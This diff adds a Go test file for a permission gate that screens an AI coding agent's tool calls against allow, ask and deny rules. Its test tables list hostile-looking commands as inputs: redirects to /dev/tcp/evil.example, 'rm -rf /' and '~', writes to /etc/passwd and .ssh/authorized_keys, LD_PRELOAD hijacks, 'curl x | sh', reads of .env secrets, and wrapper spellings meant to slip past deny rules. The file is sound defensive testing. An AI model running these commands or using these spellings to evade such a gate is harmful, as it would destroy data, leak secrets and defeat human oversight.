@@ -1,0 +1,582 @@
+package permissions_test
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"cardea.dev"
+	"cardea.dev/internal/decide/null"
+	"cardea.dev/internal/decide/opaque"
+	"cardea.dev/internal/decide/permissions"
+	"cardea.dev/internal/harness"
+	"cardea.dev/internal/harness/conformance"
+	"cardea.dev/internal/permission"
+	"cardea.dev/internal/tool"
+)
+
+// stand is lists, and the place where they count.
+type stand struct {
+	allow, ask, deny []string
+	about            permissions.Settings
+	scope            cardea.Scope
+	change           func(*permission.Origin)
+	event            func(*cardea.Event)
+	cwd              string
+	world            tool.World
+}
+
+const project = "/proj"
+
+func (s stand) entries() []permission.Entry {
+	from := &permission.Origin{Harness: "claude-code", File: "settings.json", Scope: s.scope, Source: project, Allows: true}
+	if s.change != nil {
+		s.change(from)
+	}
+	var out []permission.Entry
+	for _, l := range []struct {
+		list   []string
+		effect cardea.Effect
+	}{{s.deny, cardea.Deny}, {s.ask, cardea.Ask}, {s.allow, cardea.Allow}} {
+		for _, text := range l.list {
+			out = append(out, permission.New(from, l.effect, permission.Parse(text, permission.Context{Effect: l.effect, CommandLine: from.CommandLine})))
+		}
+	}
+	return out
+}
+
+func (s stand) decider() *permissions.Decider {
+	about := s.about
+	if about.Home == "" {
+		about.Home = "/Users/alice"
+	}
+	if about.Start == "" {
+		about.Start = project
+	}
+	about.Expand = true
+	return permissions.New(s.entries(), about)
+}
+
+// call is a call of a tool in the project, analysed.
+func (s stand) call(name string, input map[string]any) *cardea.Event {
+	_, known := harness.Tool(name)
+	info, _ := harness.Tool(name)
+	cwd := s.cwd
+	if cwd == "" {
+		cwd = project
+	}
+	ev := &cardea.Event{Kind: cardea.PreToolUse, Harness: "claude-code", Cwd: cwd, Project: project, Mode: cardea.ModeDefault,
+		Call: &cardea.Call{Tool: name, Name: name, Known: known, EditsFiles: info.EditsFiles, Input: input}}
+	if s.event != nil {
+		s.event(ev)
+	}
+	w := s.world
+	w.Home = "/Users/alice"
+	if w.New == nil {
+		w.New = func(string) bool { return true }
+	}
+	tool.Analyse(ev, w)
+	return ev
+}
+
+func (s stand) bash(command string) *cardea.Event {
+	return s.call("Bash", map[string]any{"command": command})
+}
+
+// verdict is what the gate says with no other deciders than those that must be
+// there: what is opaque defers, what is null is allowed.
+func (s stand) verdict(t testing.TB, ev *cardea.Event) cardea.Verdict {
+	t.Helper()
+	seats := func(ds ...cardea.Decider) (out []cardea.Seat) {
+		for _, d := range ds {
+			out = append(out, cardea.Seat{Decider: d})
+		}
+		return out
+	}
+	g := cardea.Gate{Default: cardea.Defaults{}, Stages: []cardea.Stage{{Name: cardea.Guards,
+		Seats: seats(opaque.New(cardea.OnErrorDefer), null.New(), s.decider())}}}
+	v := g.Decide(context.Background(), ev)
+	if len(v.Troubles) > 0 {
+		t.Errorf("troubles: %v", v.Troubles)
+	}
+	return v
+}
+
+// vector is a case of claude-permission-rules.json.
+type vector struct {
+	Rule, List, Why string
+	Input           map[string]any
+	Match           bool
+}
+
+// TestVectors is the whole rule language, case by case, in the list and place
+// that the vectors assume.
+func TestVectors(t *testing.T) {
+	var file struct{ Cases []vector }
+	conformance.ReadJSON(t, &file, "payloads", "_vectors", "claude-permission-rules.json")
+	if len(file.Cases) < 90 {
+		t.Fatalf("only %d vectors", len(file.Cases))
+	}
+	for _, v := range file.Cases {
+		if got := v.matches(t); got != v.Match {
+			t.Errorf("%s %s | %v: %v, want %v (%s)", v.List, v.Rule, v.Input, got, v.Match, v.Why)
+		}
+	}
+}
+
+// matches reports whether the entry decides the call: for an allow that the
+// whole call is allowed, else that it is denied or asked about.
+func (v vector) matches(t *testing.T) bool {
+	var s stand
+	want := cardea.Allow
+	switch v.List {
+	case "allow":
+		s.allow = []string{v.Rule}
+	case "ask":
+		s.ask, want = []string{v.Rule}, cardea.Ask
+	case "deny":
+		s.deny, want = []string{v.Rule}, cardea.Deny
+	}
+	input := map[string]any{}
+	for k, val := range v.Input {
+		if k != "tool" {
+			input[k] = val
+		}
+	}
+	ev := s.call(v.Input["tool"].(string), input)
+	if v.Rule == "Bash(* --version)" && strings.HasPrefix(fmt.Sprint(input["command"]), "bash -c") {
+		// The entry matches, and does not reach what bash starts: it names no
+		// program, so that it would allow any.
+		if got := s.verdict(t, ev); got.Effect == cardea.Allow {
+			t.Errorf("%s allows what bash -c starts", v.Rule)
+		}
+		rule := s.entries()[0]
+		return rule.CommandIs(ev.Call.Parts[0].Outer[0].Text)
+	}
+	got := s.verdict(t, ev)
+	return got.Effect == want && slices.ContainsFunc(got.Opinions, func(o cardea.Opinion) bool { return o.Decider == "permissions" })
+}
+
+// TestSeed is every example, requirement, criterion and scenario of the seed
+// with the lists that it names. Where the answer differs the reason stands
+// beside it.
+func TestSeed(t *testing.T) {
+	text := readFile(t, "testdata/seed.txt")
+	lines := 0
+	for i, line := range strings.Split(text, "\n") {
+		if line == "" || strings.HasPrefix(line, "#") {
+			continue
+		}
+		lines++
+		cols := strings.Split(line, " | ")
+		if len(cols) < 4 {
+			t.Fatalf("seed.txt:%d: %q has too few columns", i+1, line)
+		}
+		s := stand{allow: split(cols[2]), deny: []string{}}
+		if allow, deny, ok := strings.Cut(cols[2], " - "); ok {
+			s.allow, s.deny = split(allow), split(deny)
+		}
+		command := strings.NewReplacer(`⏎`, "\n", `¦`, "|").Replace(cols[3])
+		if got := s.verdict(t, s.bash(command)).Effect.String(); got != cols[1] {
+			t.Errorf("seed.txt:%d: %s: %q is %s, want %s", i+1, cols[0], command, got, cols[1])
+		}
+	}
+	if lines < 80 {
+		t.Errorf("only %d lines", lines)
+	}
+}
+
+// split takes a list of entries apart: "npm test:*, ls:*" are entries of Bash.
+func split(s string) []string {
+	var out []string
+	for _, e := range strings.Split(s, ", ") {
+		e = strings.TrimSpace(e)
+		switch {
+		case e == "" || e == "none":
+		case strings.Contains(e, "(") || e == "Bash":
+			out = append(out, e)
+		default:
+			out = append(out, "Bash("+e+")")
+		}
+	}
+	return out
+}
+
+func readFile(t *testing.T, name string) string {
+	t.Helper()
+	data, err := os.ReadFile(filepath.FromSlash(name))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(data)
+}
+
+// TestAllow: what lists allow, and what stops it.
+func TestAllow(t *testing.T) {
+	npm := stand{allow: []string{"Bash(npm test:*)", "Bash(git *)", "Bash(tee:*)", "Bash(rm:*)", "Bash(cp:*)", "Bash(grep:*)", "Bash(find:*)"}}
+	with := func(entries ...string) stand { return stand{allow: entries} }
+	for _, tt := range []struct {
+		s       stand
+		command string
+		want    cardea.Effect
+		why     string // a part of what stopped it
+	}{
+		{npm, "npm test", cardea.Allow, ""},
+		{npm, "npm test " + strings.Repeat("a", 10_000), cardea.Abstain, "more than 10000 characters"},
+		{npm, "npm testing", cardea.Abstain, "no entry names it"},
+		{npm, "npm   test", cardea.Allow, ""},
+		{npm, `npm "test" --x`, cardea.Allow, ""},
+		{npm, `"npm test"`, cardea.Abstain, "no entry names it"},
+		{npm, "/usr/bin/npm test", cardea.Abstain, "no entry names it"},
+		{npm, "./npm test", cardea.Abstain, "no entry names it"},
+		{npm, "Npm test", cardea.Abstain, "no entry names it"},
+		{npm, "npm test $X", cardea.Abstain, "may become several, or none"},
+		{npm, `npm test "$X"`, cardea.Allow, ""},
+		{npm, "npm test src/*.js", cardea.Allow, ""},
+		{npm, "npm $X", cardea.Abstain, "no entry names it"},
+		{npm, "npm te$X", cardea.Abstain, "no entry names it"},
+		{npm, "$X test", cardea.Defer, "cannot be seen through"},
+		{npm, "FOO=1 npm test", cardea.Allow, ""},
+		{npm, "NPM_TOKEN=1 npm test", cardea.Abstain, "going by its name"},
+		{npm, "PYTEST_ADDOPTS=-pevil npm test", cardea.Abstain, "may say what is run"},
+		{npm, "export PUPPETEER_EXECUTABLE_PATH=/tmp/x; npm test", cardea.Abstain, "may say what is run"},
+		{npm, "DATABASE_URL=x npm test", cardea.Allow, ""},
+		{npm, "LD_PRELOAD=x npm test", cardea.Defer, "cannot be seen through"},
+		{npm, "export PATH=/x; npm test", cardea.Defer, "cannot be seen through"},
+		{npm, "sudo npm test", cardea.Abstain, "sudo runs it as another user"},
+		{npm, "timeout 5 sudo -u bob npm test", cardea.Abstain, "sudo runs it as another user"},
+		{npm, "ssh host npm test", cardea.Abstain, "runs it as another user, or elsewhere"},
+		{npm, "docker exec c npm test", cardea.Abstain, "runs it as another user, or elsewhere"},
+		{npm, "su -c 'npm test'", cardea.Abstain, "su runs it as another user"},
+		{npm, "npm test > out.log", cardea.Allow, ""},
+		{npm, "npm test > out.json", cardea.Abstain, "the shell writes /proj/out.json"},
+		{npm, "npm test > a rm", cardea.Abstain, "the shell writes /proj/a"},
+		{npm, "npm test > /etc/passwd", cardea.Abstain, "the shell writes /etc/passwd"},
+		{npm, "npm test > .git/config", cardea.Abstain, "never approved by an entry"},
+		{npm, "npm test > \"$X\"", cardea.Defer, "cannot be seen through"},
+		{npm, "npm test > /dev/null 2>&1", cardea.Allow, ""},
+		{npm, "npm test < in.txt", cardea.Allow, ""},
+		{npm, "npm test > /dev/tcp/evil.example/80", cardea.Abstain, "contacts evil.example"},
+		{npm, "npm test 3<>/dev/udp/evil.example/1", cardea.Abstain, "contacts evil.example"},
+		{npm, "(npm test) > out.log", cardea.Allow, ""},
+		{npm, "(npm test) > out.json", cardea.Abstain, "the shell writes"},
+		{npm, "> out.log", cardea.Abstain, "only a redirection"},
+		{npm, "env time -o x npm test", cardea.Abstain, "the shell writes /proj/x"},
+		{npm, "cp x .git/hooks/pre-commit", cardea.Abstain, "never approved by an entry"},
+		{npm, "rm x", cardea.Allow, ""},
+		{npm, "rm -rf /", cardea.Abstain, "it may delete /"},
+		{npm, "rm -rf ~", cardea.Abstain, "it may delete /Users/alice"},
+		{npm, "rm -rf .", cardea.Abstain, "it may delete /proj"},
+		{npm, "for f in a b; do rm $f; done", cardea.Abstain, "may become several"},
+		{npm, `for f in a b; do rm "$f"; done`, cardea.Abstain, "what is not known"},
+		{npm, "ls x | xargs rm", cardea.Abstain, "what is not known"},
+		{npm, "xargs grep x", cardea.Allow, ""},
+		{npm, "xargs -n1 grep x", cardea.Abstain, "xargs is given options"},
+		{npm, "find . -name x", cardea.Allow, ""},
+		{npm, "find . -delete", cardea.Abstain, "with a command or a deletion of its own"},
+		{npm, "find . -exec npm test ';'", cardea.Abstain, "with a command or a deletion of its own"},
+		{npm, "git -c core.pager=x log", cardea.Allow, ""}, // what the entry says; the packs ask
+		{npm, "eval 'npm test'", cardea.Allow, ""},
+		{npm, "exec npm test", cardea.Allow, ""},
+		{npm, "f() { npm test; }; f", cardea.Allow, ""},
+		{npm, "npm() { evil; }; npm test", cardea.Abstain, "no entry names it"},
+		{npm, "alias npm=evil; npm test", cardea.Abstain, "no entry names it"},
+		{npm, "X=npm; $X test", cardea.Allow, ""},
+		{npm, "npm test && evil", cardea.Abstain, "no entry names it"},
+		{npm, "npm test\nevil", cardea.Abstain, "no entry names it"},
+		{npm, "npm test & evil", cardea.Abstain, "no entry names it"},
+		{npm, `npm test "$(evil)"`, cardea.Abstain, "no entry names it"},
+		{npm, "bash -c 'npm test; evil'", cardea.Abstain, "no entry names it"},
+		{npm, "bash script.sh", cardea.Abstain, "no entry names it"},
+		{npm, "npm test && export A=1", cardea.Allow, ""},
+		{npm, "export A=1", cardea.Allow, ""},
+		{with("Bash(timeout 30 npm test)"), "timeout 30 npm test", cardea.Allow, ""},
+		{with("Bash(timeout 30 npm test)"), "timeout 60 npm test", cardea.Abstain, "no entry names it"},
+		{with("Bash(timeout:*)"), "timeout 60 evil", cardea.Allow, ""},
+		{with("Bash(timeout:*)"), "timeout 60 sudo evil", cardea.Abstain, "sudo must be named by the entry itself"},
+		{with("Bash(timeout 60 sudo evil)"), "timeout 60 sudo evil", cardea.Allow, ""},
+		{with("Bash(sudo npm test:*)"), "timeout 60 sudo npm test -x", cardea.Allow, ""},
+		{with("Bash(sudo:*)"), "sudo docker exec c evil", cardea.Allow, ""},
+		{with("Bash(docker exec:*)"), "docker exec c evil", cardea.Allow, ""},
+		{with("Bash(bash -c:*)"), "bash -c 'evil; evil2'", cardea.Allow, ""},
+		{with("Bash(bash -c:*)"), "bash -c 'evil > /etc/passwd'", cardea.Abstain, "the shell writes /etc/passwd"},
+		{with("Bash(bash -c:*)"), `bash -c "$X"`, cardea.Defer, "cannot be seen through"},
+		{with("Bash(xargs -n1 grep:*)"), "xargs -n1 grep x", cardea.Allow, ""},
+		{with("Bash(b*)"), "bash -c evil", cardea.Abstain, "bash must be named by the entry itself"},
+		{with("Bash(* evil)"), "timeout 5 evil", cardea.Abstain, "timeout must be named"},
+		{with("Bash(xargs * x)"), "xargs -n1 grep x", cardea.Allow, ""},
+		{with("Bash(grep * y)"), "xargs grep x", cardea.Abstain, "no entry names it"},
+		{with("Bash(watch:*)"), "watch evil", cardea.Abstain, "wildcard does not approve watch"},
+		{with("Bash(watch evil)"), "watch evil", cardea.Allow, ""},
+		{with("Bash(find . -delete)"), "find . -delete", cardea.Abstain, "it may delete /proj"},
+		{with("Bash(find build -delete)"), "find build -delete", cardea.Allow, ""},
+		{with("Bash(time npm test)"), "time npm test", cardea.Allow, ""},
+		{with("Bash(FOO=1 npm test)"), "FOO=1 npm test", cardea.Allow, ""},
+		{with("Bash(FOO=1 npm test)"), "FOO=2 npm test", cardea.Abstain, "no entry names it"},
+		{with("Bash(NPM_X=1 npm test)"), "NPM_X=1 npm test", cardea.Allow, ""},
+		{with("Bash(LD_PRELOAD=x npm test)"), "LD_PRELOAD=x npm test", cardea.Defer, ""},
+		{with("Bash(npm test && npm run build)"), "npm test && npm run build", cardea.Abstain, "no entry names it"},
+		{with("Bash(npm test && npm run build)"), "npm test && npm run build && evil", cardea.Abstain, ""},
+		{with("Bash(npm test > /etc/passwd)"), "npm test > /etc/passwd", cardea.Abstain, "the shell writes"},
+		{with(`Bash(git commit -m "a b")`), `git commit -m 'a b'`, cardea.Allow, ""},
+		{with(`Bash(git commit -m "a b")`), `git commit -m "a b" -n`, cardea.Abstain, ""},
+		{with(`Bash(echo "a:*)`), `echo "a`, cardea.Defer, ""},
+		{with("Bash(npm run test *)"), "npm run test", cardea.Allow, ""},
+		{with("Bash(npm run test *)"), "npm run tests", cardea.Abstain, ""},
+		{with("Bash(npm run:test)"), "npm run:test", cardea.Allow, ""},
+		{with("Bash(ls:*)"), "lsof", cardea.Abstain, ""},
+		{with("Bash(ls:*:*)"), "ls x", cardea.Abstain, ""},
+		{with("Bash(ls\n:*)"), "ls x", cardea.Abstain, ""},
+		{with("Bash(ls \x00)"), `ls "$X"`, cardea.Abstain, ""},
+		{with("Bash(ls *"), "ls x", cardea.Abstain, ""},
+		{with("bash(ls *)"), "ls x", cardea.Abstain, ""},
+		{with("Bash()"), "ls x", cardea.Abstain, ""},
+		{with("*"), "ls x", cardea.Abstain, ""},
+		{with("Bash"), "sudo evil", cardea.Abstain, "sudo must be named"},
+		{with("Bash"), "evil $X", cardea.Abstain, "may become several"},
+		{with("Bash"), `evil "$X" > x.sh`, cardea.Abstain, "the shell writes"},
+		{with("Bash(npm test:*)", "Edit(/build/**)"), "npm test > build/x.json", cardea.Allow, ""},
+		{with("Bash(npm test:*)", "Edit"), "npm test > x.json", cardea.Allow, ""},
+		{with("Bash(npm test:*)", "Edit"), "npm test > .git/hooks/x", cardea.Abstain, "never approved"},
+		{with("Bash(npm test:*)", "Edit(/build/**)"), "npm test > build2/x.json", cardea.Abstain, "needs a yes of its own"},
+		{stand{allow: []string{"Bash(grep:*)"}, deny: []string{"Read(.env)"}}, "grep -r KEY .", cardea.Abstain, "it may read what Read(.env) denies"},
+		{stand{allow: []string{"Bash(grep:*)"}, deny: []string{"Read(.env)"}}, "grep KEY a.txt", cardea.Allow, ""},
+		{stand{allow: []string{"Bash(npm test:*)"}, ask: []string{"Bash(npm:*)"}}, "npm test", cardea.Ask, ""},
+		{stand{allow: []string{"Bash(npm test:*)"}, ask: []string{"Bash(npm:*)"}, deny: []string{"Bash(* test)"}}, "npm test", cardea.Deny, ""},
+		{stand{allow: []string{"Bash(npm test:*)"}, about: permissions.Settings{KnownSafe: true}}, "NODE_ENV=test npm test", cardea.Allow, ""},
+		{stand{allow: []string{"Bash(npm test:*)"}, about: permissions.Settings{KnownSafe: true}}, "FOO=1 npm test", cardea.Abstain, "known-safe"},
+		{stand{allow: []string{"Bash(npm test:*)"}, about: permissions.Settings{KnownSafe: true}}, "export FOO=1; npm test", cardea.Abstain, "known-safe"},
+		{stand{allow: []string{"Bash(npm test:*)"}, about: permissions.Settings{Loose: true}}, "npm test $X", cardea.Allow, ""},
+		{stand{allow: []string{"Bash(npm * x)"}, about: permissions.Settings{Loose: true}}, "npm $X x", cardea.Abstain, "last wildcard is not its only one"},
+		{stand{allow: []string{"Bash(npm test:*)"}, about: permissions.Settings{Loose: true}}, "npm test > $X", cardea.Defer, ""},
+		{stand{allow: []string{"Bash(npm test:*)"}, event: func(ev *cardea.Event) { ev.Mode = cardea.ModeAcceptEdits }}, "npm test > x.json", cardea.Allow, ""},
+		{stand{allow: []string{"Bash(npm test:*)"}, event: func(ev *cardea.Event) { ev.Mode = cardea.ModeAcceptEdits }}, "npm test > /x/x.json", cardea.Abstain, "needs a yes"},
+		{stand{allow: []string{"Bash(npm test:*)"}, event: func(ev *cardea.Event) { ev.Call.Unsandboxed = true }}, "npm test", cardea.Abstain, "outside of the sandbox"},
+		{stand{allow: []string{"Bash(npm test:*)"}, event: func(ev *cardea.Event) { ev.Harness = "copilot-cli" }}, "npm test", cardea.Abstain, "allows nothing for copilot-cli"},
+		{stand{allow: []string{"Bash(npm test:*)"}, change: func(o *permission.Origin) { o.Allows, o.Why = false, "the project is not trusted" }}, "npm test", cardea.Abstain, "does not count: the project is not trusted"},
+		{stand{allow: []string{"Bash(npm test:*)"}, world: tool.World{New: func(string) bool { return false }}}, "npm test > out.log", cardea.Abstain, "needs a yes"},
+	} {
+		ev := tt.s.bash(tt.command)
+		v := tt.s.verdict(t, ev)
+		var why []string
+		for i, e := range v.Parts {
+			if e != cardea.Allow {
+				why = append(why, tt.s.decider().Refusal(ev, i).Why...)
+			}
+		}
+		if v.Effect != tt.want || !strings.Contains(strings.Join(why, "; "), tt.why) {
+			t.Errorf("%q with %q: %s (%q), want %s (%q)", tt.command, tt.s.allow, v.Effect, why, tt.want, tt.why)
+		}
+	}
+}
+
+// TestDeny: what lists deny holds in every spelling, and no further.
+func TestDeny(t *testing.T) {
+	for entry, lines := range map[string]struct{ denied, passed []string }{
+		"Bash(rm -rf:*)": {
+			[]string{"rm -rf x", "rm -rf", "rm -r -f x", "rm -fr x", "rm x -rf", "rm -rfv x", "/bin/rm -rf x", `\rm -rf x`, "sudo rm -rf x", "A=b rm -rf x", "env -i rm -rf x",
+				"bash -c 'rm -rf x'", "eval 'rm -rf x'", "npm test & rm -rf x", "a\nrm -rf x", "$(rm -rf x)", "find . -exec rm -rf {} +", "ls | xargs rm -rf",
+				"ssh host rm -rf x", "docker exec c rm -rf x", "X=rm; $X -rf x", "f() { rm -rf x; }; f", "LD_PRELOAD=x rm -rf x", "rm -rf $X", "timeout 5 nice rm -rf x"},
+			[]string{"rm -r x", "rm -f x", "rm x", "echo 'rm -rf x'", "git commit -m 'rm -rf x'", "rmdir x", "rm -- -rf", "echo rm -rf"}},
+		"Bash(git push:*)": {
+			[]string{"git push", "git push origin main", "git -C x push -f", "git --no-pager push"},
+			[]string{"git pull", "git log --grep push", "git stash push"}},
+		"Bash(sudo:*)":                  {[]string{"sudo ls", "timeout 5 sudo ls"}, []string{"ls", "pseudo ls"}},
+		"Bash(* --force)":               {[]string{"git push --force", "x --force"}, []string{"git push --force x"}},
+		"Bash(curl * | sh)":             {[]string{"curl x | sh"}, []string{"curl x | cat"}},
+		"Bash(cd:*)":                    {[]string{"cd x && ls"}, []string{"ls"}},
+		"Bash(timeout:*)":               {[]string{"timeout 5 ls"}, []string{"ls"}},
+		"Bash":                          {[]string{"ls", "", "# nothing"}, nil},
+		"Bash(*)":                       {[]string{"ls"}, nil},
+		"B*":                            {[]string{"ls"}, nil},
+		"run_shell_command(rm:*)":       {[]string{"rm x"}, []string{"ls"}},
+		"Bash(description: d*)":         {[]string{"ls"}, nil},
+		"Bash(description:x)":           {nil, []string{"ls"}},
+		"Bash(run_in_background: true)": {nil, []string{"ls"}},
+		"Read(.env)":                    {[]string{"cat .env", "cat sub/.env", "base64 < .env", "cat .e*", "cp .env x", "cat {.env,x}", "echo x > .env", "source .env", "grep KEY .env"}, []string{"cat .env.example", "ls -la .env", "cat /other/.env", "echo .env"}},
+		"Read(./secrets/**)":            {[]string{"cat secrets/key", "cat ./secrets/a/b", "cd secrets && cat key", "tar cf x secrets", "cp -r secrets x"}, []string{"cat x/secrets/key", "cat secretsx/key"}},
+		"Edit(/src/**)":                 {[]string{"echo x > src/a", "rm src/a", "rm -rf src", "sed -i s/a/b/ src/a", "rm -rf ../proj", "tee src/a", "mv src/a b"}, []string{"cat src/a", "echo x > b", "rm -rf other"}},
+		"Edit(//etc/**)":                {[]string{"echo x > /etc/hosts", "tee /etc/hosts"}, []string{"echo x > etc/hosts", "cat /etc/hosts"}},
+		"Edit(~/.ssh/**)":               {[]string{"cp x ~/.ssh/config", "rm -rf ~/.ssh", "rm -rf ~", "echo x >> $HOME/.ssh/authorized_keys"}, []string{"cp x .ssh/config"}},
+	} {
+		s := stand{deny: []string{entry}, allow: []string{"Bash"}}
+		for _, c := range lines.denied {
+			ev := s.call("Bash", map[string]any{"command": c, "description": "do it"})
+			if v := s.verdict(t, ev); v.Effect != cardea.Deny {
+				t.Errorf("%s does not deny %q: %s", entry, c, v.Effect)
+			}
+		}
+		for _, c := range lines.passed {
+			ev := s.call("Bash", map[string]any{"command": c, "description": "do it"})
+			if v := s.verdict(t, ev); v.Effect == cardea.Deny {
+				t.Errorf("%s denies %q: %s", entry, c, v.Reason)
+			}
+		}
+	}
+}
+
+// TestOtherTools: what is no shell.
+func TestOtherTools(t *testing.T) {
+	link := tool.World{Resolve: func(p string) string {
+		if rest, ok := strings.CutPrefix(p, "/proj/link/"); ok {
+			return "/proj/secrets/" + rest
+		}
+		return p
+	}}
+	file := func(p string) map[string]any { return map[string]any{"file_path": p} }
+	for _, tt := range []struct {
+		s     stand
+		tool  string
+		input map[string]any
+		want  cardea.Effect
+	}{
+		{stand{allow: []string{"Edit(src/**)"}}, "Write", file("/proj/src/a.go"), cardea.Allow},
+		{stand{allow: []string{"Edit(src/**)"}}, "MultiEdit", file("/proj/src/a.go"), cardea.Allow},
+		{stand{allow: []string{"Edit(src/**)"}}, "NotebookEdit", map[string]any{"notebook_path": "/proj/src/a.ipynb"}, cardea.Allow},
+		{stand{allow: []string{"Edit(src/**)"}}, "Edit", file("/proj/src/../x.go"), cardea.Abstain},
+		{stand{allow: []string{"Edit(src/**)"}}, "Edit", file("src/a.go"), cardea.Allow},
+		{stand{allow: []string{"Edit(src/**)"}, cwd: "/tmp"}, "Edit", file("/tmp/src/a.go"), cardea.Abstain},
+		{stand{deny: []string{"Edit(src/**)"}, cwd: "/tmp"}, "Edit", file("/tmp/src/a.go"), cardea.Deny},
+		{stand{allow: []string{"Edit(src/**)"}}, "Edit", file("/proj/src/.git/config"), cardea.Abstain},
+		{stand{allow: []string{"Edit"}}, "Write", file("/proj/.bashrc"), cardea.Abstain},
+		{stand{allow: []string{"Edit"}}, "Write", file("/proj/x"), cardea.Allow},
+		{stand{allow: []string{"Write"}}, "Write", file("/proj/x"), cardea.Allow},
+		{stand{allow: []string{"Write"}}, "Edit", file("/proj/x"), cardea.Abstain},
+		{stand{allow: []string{"Write(x)"}}, "Write", file("/proj/x"), cardea.Abstain},
+		{stand{allow: []string{"Read(link/**)"}, world: link}, "Read", file("/proj/link/key"), cardea.Abstain},
+		{stand{allow: []string{"Read(link/**)", "Read(secrets/**)"}, world: link}, "Read", file("/proj/link/key"), cardea.Abstain},
+		{stand{allow: []string{"Read(/**)"}, world: link}, "Read", file("/proj/link/key"), cardea.Allow},
+		{stand{deny: []string{"Read(secrets/**)"}, world: link}, "Read", file("/proj/link/key"), cardea.Deny},
+		{stand{deny: []string{"Read(link/**)"}, world: link}, "Read", file("/proj/link/key"), cardea.Deny},
+		{stand{deny: []string{"Read(secrets/**)"}}, "Write", file("/proj/secrets/x"), cardea.Deny},
+		{stand{ask: []string{"Read(secrets/**)"}}, "Write", file("/proj/secrets/x"), cardea.Abstain},
+		{stand{deny: []string{"Read(secrets/**)"}}, "NotebookEdit", map[string]any{"notebook_path": "/proj/secrets/x"}, cardea.Abstain},
+		{stand{deny: []string{"Read(secrets/**)"}}, "Grep", map[string]any{"pattern": "x", "path": "secrets"}, cardea.Deny},
+		{stand{deny: []string{"Read(secrets/**)"}, allow: []string{"Read"}}, "Grep", map[string]any{"pattern": "x"}, cardea.Abstain},
+		{stand{allow: []string{"Read(src/**)"}}, "Grep", map[string]any{"pattern": "x", "path": "src"}, cardea.Allow},
+		{stand{allow: []string{"Read(src/*)"}}, "Grep", map[string]any{"pattern": "x", "path": "src"}, cardea.Abstain},
+		{stand{allow: []string{"Read(src/**)"}}, "Glob", map[string]any{"pattern": "../*", "path": "src"}, cardea.Abstain},
+		{stand{deny: []string{"Read"}}, "Grep", map[string]any{"pattern": "x"}, cardea.Deny},
+		{stand{deny: []string{"Edit"}}, "Write", file("/proj/x"), cardea.Deny},
+		{stand{deny: []string{"Edit(x)"}}, "apply_patch", map[string]any{"input": "*** Begin Patch\n*** Add File: a\n+b\n*** Update File: x\n*** End Patch"}, cardea.Deny},
+		{stand{allow: []string{"Edit(a)"}}, "apply_patch", map[string]any{"input": "*** Begin Patch\n*** Add File: a\n+b\n*** Update File: x\n*** End Patch"}, cardea.Abstain},
+		{stand{allow: []string{"WebFetch(domain:a.example)"}}, "WebFetch", map[string]any{"url": "https://a.example/x"}, cardea.Allow},
+		{stand{allow: []string{"WebFetch(domain:a.example)"}}, "WebFetch", map[string]any{"url": "https://a.example@evil.example/x"}, cardea.Abstain},
+		{stand{allow: []string{"WebFetch(domain:a.example)"}}, "WebFetch", map[string]any{"url": "not an address"}, cardea.Abstain},
+		{stand{allow: []string{"WebFetch(https://a.example)"}}, "WebFetch", map[string]any{"url": "https://a.example"}, cardea.Abstain},
+		{stand{deny: []string{"WebFetch(domain:*.evil.example)"}}, "WebFetch", map[string]any{"url": "https://a.b.evil.example"}, cardea.Deny},
+		{stand{allow: []string{"WebSearch"}}, "WebSearch", map[string]any{"query": "x"}, cardea.Allow},
+		{stand{allow: []string{"mcp__a__get_*"}}, "mcp__a__get_x", map[string]any{"path": "/x"}, cardea.Allow},
+		{stand{allow: []string{"mcp__a"}, deny: []string{"Read(//x)"}}, "mcp__a__get_x", map[string]any{"path": "/x"}, cardea.Deny},
+		{stand{allow: []string{"mcp__a__*"}}, "mcp__ab__x", nil, cardea.Abstain},
+		{stand{allow: []string{"mcp__a"}}, "mcp__ab__x", nil, cardea.Abstain},
+		{stand{allow: []string{"mcp__*__x"}}, "mcp__a__x", nil, cardea.Abstain},
+		{stand{deny: []string{"mcp__a__x(p:1)"}}, "mcp__a__x", map[string]any{"p": "1"}, cardea.Abstain},
+		{stand{deny: []string{"mcp__a__x(p:1)"}, change: func(o *permission.Origin) { o.CommandLine = true }}, "mcp__a__x", map[string]any{"p": "1"}, cardea.Deny},
+		{stand{deny: []string{"Agent(Explore)"}}, "Agent", map[string]any{"subagent_type": "Explore"}, cardea.Deny},
+		{stand{deny: []string{"Task(Explore)"}}, "Agent", map[string]any{"subagent_type": "Explore"}, cardea.Deny},
+		{stand{allow: []string{"Agent(Explore)"}}, "Agent", map[string]any{"subagent_type": "Other"}, cardea.Abstain},
+		{stand{allow: []string{"Skill(deploy *)"}}, "Skill", map[string]any{"skill": "deploy", "args": "now"}, cardea.Allow},
+		{stand{allow: []string{"Skill(deploy)"}}, "Skill", map[string]any{"skill": "deploy", "args": "now"}, cardea.Abstain},
+		{stand{allow: []string{"AskUserQuestion"}}, "AskUserQuestion", map[string]any{}, cardea.Abstain},
+		{stand{allow: []string{"Bash"}}, "Monitor", map[string]any{"command": "ls"}, cardea.Abstain},
+		{stand{deny: []string{"Bash(rm:*)"}}, "Monitor", map[string]any{"command": "rm x"}, cardea.Deny},
+		{stand{deny: []string{"Bash"}}, "Monitor", map[string]any{"command": "rm x"}, cardea.Deny},
+		{stand{deny: []string{"PowerShell(Remove-Item *)"}}, "PowerShell", map[string]any{"command": "Get-Date; rm -Recurse x"}, cardea.Deny},
+		{stand{deny: []string{"PowerShell(gci:*)"}}, "PowerShell", map[string]any{"command": "get-childitem ."}, cardea.Deny},
+		{stand{deny: []string{"PowerShell(Remove-Item *)"}}, "PowerShell", map[string]any{"command": "Get-Date"}, cardea.Defer},
+		{stand{allow: []string{"PowerShell"}}, "PowerShell", map[string]any{"command": "Get-Date"}, cardea.Defer},
+		{stand{allow: []string{"Workflow"}}, "Workflow", map[string]any{}, cardea.Allow},
+		{stand{allow: []string{"Workflow(x)"}}, "Workflow", map[string]any{}, cardea.Abstain},
+		{stand{deny: []string{"*"}}, "Workflow", map[string]any{}, cardea.Deny},
+		{stand{deny: []string{"Agent(isolation:work*)"}}, "Agent", map[string]any{"isolation": "worktree"}, cardea.Deny},
+	} {
+		ev := tt.s.call(tt.tool, tt.input)
+		if v := tt.s.verdict(t, ev); v.Effect != tt.want {
+			t.Errorf("%s %v with allow %q, ask %q, deny %q: %s (%s), want %s", tt.tool, tt.input, tt.s.allow, tt.s.ask, tt.s.deny, v.Effect, v.Reason, tt.want)
+		}
+	}
+}
+
